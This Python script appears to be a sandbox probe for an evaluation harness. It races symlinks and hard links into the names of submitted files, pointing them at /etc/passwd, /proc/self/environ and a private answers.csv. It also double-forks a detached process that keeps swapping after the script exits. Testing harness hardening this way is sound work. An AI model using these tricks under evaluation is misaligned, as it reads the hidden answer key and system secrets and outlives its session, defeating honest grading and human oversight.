"""Swaps files for links, other files and folders as fast as it can, for whoever looks at a file twice."""

from __future__ import annotations

import os
import time
from contextlib import suppress
from pathlib import Path

from attempts import attempt, require_sandbox

TARGETS = ("/etc/passwd", "/private/answers.csv", "/proc/self/environ", "../private/answers.csv")
SECONDS = 3


def swap(names: list[str], until: float) -> None:
    """A file, a link out, a hard link to another file, and a folder, each under the name of what is submitted."""
    while time.monotonic() < until:
        for name in names:
            for target in TARGETS:
                with suppress(OSError):
                    os.symlink(target, "swapped")
                    os.rename("swapped", name)
            with suppress(OSError):
                os.link("kept.bin", "swapped")
                os.rename("swapped", name)


def leave_a_swapper(names: list[str]) -> None:
    """The same in a process that outlives this one."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            swap(names, time.monotonic() + 10 * SECONDS)
        os._exit(0)


if __name__ == "__main__":
    require_sandbox()
    Path("kept.bin").write_bytes(b"kept")
    names = ["submission.csv", "weights.npz", "config.json", "swapped.py"]
    attempt("leave a swapper in the background", lambda: leave_a_swapper(names))
    attempt("swap what is submitted", lambda: swap(names, time.monotonic() + SECONDS))
    attempt("link to the data", lambda: os.link(next(Path("data").glob("*")), "linked"))
